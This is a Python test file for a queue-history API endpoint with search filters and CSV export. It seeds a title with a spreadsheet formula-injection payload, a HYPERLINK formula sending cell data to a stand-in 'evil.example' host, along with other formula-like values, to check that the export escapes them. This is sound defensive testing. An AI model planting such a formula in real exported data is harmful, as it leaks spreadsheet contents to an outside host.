"""GET /api/queue/history: what was fetched and what was given up, searched, and as a table."""

import csv
import io
import json
from contextlib import closing

import pytest
import pytest_asyncio

from handlers import csv_answers, keys, queue
from store import db, history
from store import queue as queue_store
from store.history_search import HistoryState, Search
from store.models import Episode, Listing
from tests.app import running
from tests.rows import each_row
from tests.test_auth import refused

pytestmark = pytest.mark.asyncio(loop_scope="module")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Nacht")'
TITLES = {"nacht": "Nacht", "oede": "Öde Gegend, 2", "evil": EVIL}
RECEIPT = json.dumps({"bytes": 10, "resumed": 0, "proof": "length", "seconds": 1.0})


def work(conn) -> None:
    """Three series of two sources: the first episode of each is fetched, the second given up."""
    for number, (key, title) in enumerate(TITLES.items()):
        name = "other" if key == "evil" else "home"
        episodes = (Episode(1, 1), Episode(1, 2))
        listing = (name, Listing(key, title, episodes=episodes))
        added = queue_store.add(conn, f"{name}_{key}", ["S01"], "normal", found=[listing])
        first, second = (item.id for item in added.items)
        queue_store.set_target(conn, first, f"{key}/S01E01.mkv", RECEIPT)
        queue_store.finish(conn, first, f"{key}/S01E01.mkv", 10)
        queue_store.fail(conn, second, "PROVIDER_ERROR", f"+{title} is gone")
        day = f"2025-10-2{number}T12:00:00Z"
        conn.execute("update history set finished_at = ? where item = ?", (day, first))
        conn.execute("update failures set failed_at = ? where item = ?", (day, second))


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def server(tmp_path_factory):
    async with running(tmp_path_factory.mktemp("history"), log_level="error") as server:
        await server.login()
        await server.app[keys.DB].run(work)
        yield server


async def found(server, **query: str) -> list[str]:
    status, page, _ = await server.get("/api/queue/history", params=query)
    assert status == 200, page
    assert page["pagination"]["total"] == len(page["data"])
    return [row["anime_title"] for row in page["data"]]


async def table(server, query: str = "?format=csv", **options) -> list[dict[str, str]]:
    async with server.client.get(f"{server.base}/api/queue/history{query}", **options) as answer:
        assert answer.status == 200
        assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Content-Disposition"] == 'attachment; filename="history.csv"'
        text = (await answer.read()).decode("utf-8-sig")
    assert text.count("\r\n") == text.count("\n")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@each_row(
    "query, titles",
    [
        ({}, [EVIL, "Öde Gegend, 2", "Nacht"]),
        ({"q": "öDE"}, ["Öde Gegend, 2"]),
        ({"q": "%"}, []),
        ({"anime_id": "home_nacht"}, ["Nacht"]),
        ({"source": "other"}, [EVIL]),
        ({"since": "2025-10-21"}, [EVIL, "Öde Gegend, 2"]),
        ({"until": "2025-10-21"}, ["Öde Gegend, 2", "Nacht"]),
        ({"until": "2025-10-21T11:59:59Z"}, ["Nacht"]),
        ({"since": "2025-10-21T12:00:00Z", "until": "2025-10-21T12:00:00Z"}, ["Öde Gegend, 2"]),
        ({"source": "home", "q": "nacht", "since": "2025-10-21"}, []),
    ],
)
@each_row("state", HistoryState.__args__)
async def test_a_search_finds_what_fits_all_its_parts(server, state, query, titles):
    assert await found(server, state=state, **query) == titles
    assert await table(server, "", params={"format": "csv", "state": state, **query}) is not None


async def test_by_default_it_tells_what_was_fetched(server):
    _, page, headers = await server.get("/api/queue/history?per_page=2&source=home")
    assert {row["state"] for row in page["data"]} == {"completed"}
    assert page["pagination"] == {"total": 2, "page": 1, "per_page": 2, "pages": 1}
    assert "source=home" in headers["Link"]


async def test_what_was_given_up_says_why(server):
    _, page, _ = await server.get("/api/queue/history?state=failed&anime_id=home_nacht")
    (row,) = page["data"]
    assert (row["state"], row["episode"], row["file_path"]) == ("failed", "S01E02", "")
    assert (row["error_code"], row["error_message"]) == ("PROVIDER_ERROR", "+Nacht is gone")


@pytest.mark.parametrize(
    "query",
    ["state=lost", "since=yesterday", "until=2025-13-01", "since=2025-10-21T25:00:00Z", "format=x"],
)
async def test_a_question_of_another_form_is_refused(server, query):
    refused(await server.get(f"/api/queue/history?{query}"), 422)


async def test_the_table_has_the_same_rows(server):
    """A formula in a title, or in an error, is text there."""
    _, page, _ = await server.get("/api/queue/history?state=failed")
    rows = await table(server, "?format=csv&state=failed")
    assert [*rows[0]] == [*page["data"][0]]
    assert [row["anime_title"] for row in rows] == [f"'{EVIL}", "Öde Gegend, 2", "Nacht"]
    assert rows[-1]["error_message"] == "'+Nacht is gone"
    assert [int(row["history_id"]) for row in rows] == [row["history_id"] for row in page["data"]]


@pytest.mark.parametrize(
    "accept, is_table",
    [
        ("text/csv", True),
        ("TEXT/CSV;q=0.9, */*;q=0.1", True),
        ("text/csv, application/json", False),
        ("*/*", False),
    ],
)
async def test_the_table_by_accept(server, accept, is_table):
    headers = {"Accept": accept}
    async with server.client.get(f"{server.base}/api/queue/history", headers=headers) as answer:
        assert (answer.content_type == "text/csv") == is_table
    _, page, _ = await server.get("/api/queue/history?format=json", headers=headers)
    assert page["success"] is True


async def test_the_head_of_the_table(server):
    async with server.client.head(f"{server.base}/api/queue/history?format=csv") as answer:
        assert (answer.status, await answer.read()) == (200, b"")
    assert (await server.get("/health"))[0] == 200


async def test_a_long_table_comes_in_pieces(server, monkeypatch):
    monkeypatch.setattr(queue, "HISTORY_ROWS", 2)
    assert [row["anime_title"] for row in await table(server)][-1] == "Nacht"


async def test_a_table_that_cannot_be_sent_whole_is_no_table(server, monkeypatch, caplog):
    monkeypatch.setattr(history, "before", lambda *_: 1 / 0)
    with pytest.raises(Exception, match="payload|disconnected|[Rr]eset"):
        await table(server)
    assert "not sent whole" in caplog.text


@each_row(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1", "'  =1"),
        ("\t=1", "'\t=1"),
        (" Nacht", '" Nacht"'),
        ("＝1", "'＝1"),
        ('say "so"', '"say ""so"""'),
        ("a,b", '"a,b"'),
        ("a\r\nb", '"a\r\nb"'),
        ("\r=1", '"\'\r=1"'),
        ("Nacht = Tag", "Nacht = Tag"),
        ("", ""),
        (None, ""),
        (-5, "-5"),
        (1.5, "1.5"),
        (True, "True"),
    ],
)
async def test_a_cell_is_quoted_and_is_no_formula(value, cell):
    assert csv_answers.line([value]) == cell + "\r\n"


async def test_a_title_is_looked_for_once_and_not_in_each_row(tmp_path):
    """Of 20,000 rows with 200 titles few are touched; a series may have had several titles."""
    rows = [
        (n, f"home_{n % 100}", f"Séries {n % 200}", f"2025-10-{n % 28 + 1:02}")
        for n in range(20_000)
    ]
    columns = "item, series, title, finished_at, season, number, provider, path, receipt"
    receipt = json.dumps({"bytes": 1})
    with closing(db.connect(tmp_path / "aniworld.db")) as conn:
        conn.executemany(
            f"insert into history ({columns}) values (?, ?, ?, ?, 1, 1, 'home', 'a', '{receipt}')",
            rows,
        )
        steps = 0

        def count() -> None:
            nonlocal steps
            steps += 1000

        conn.set_progress_handler(count, 1000)
        for title, total in (
            ("nobody", 0),
            ("sÉRIES 7", 1100),
            ("series 199", 0),
            ("séries 199", 100),
        ):
            found, all_found = history.page(conn, Search(title=title), 50, 0)
            assert (len(found), all_found) == (min(total, 50), total)
            numbers = [row.history_id for row in found]
            assert numbers == sorted(numbers, reverse=True)
        assert steps < 150_000  # of the machine of SQLite: 20,000 rows alone are more in one search
        found = history.before(conn, Search(title="séries 199", since="2025-10-20"), 15_000, 500)
        assert found
        assert all(r.history_id < 15_000 and r.finished_at >= "2025-10-20" for r in found)
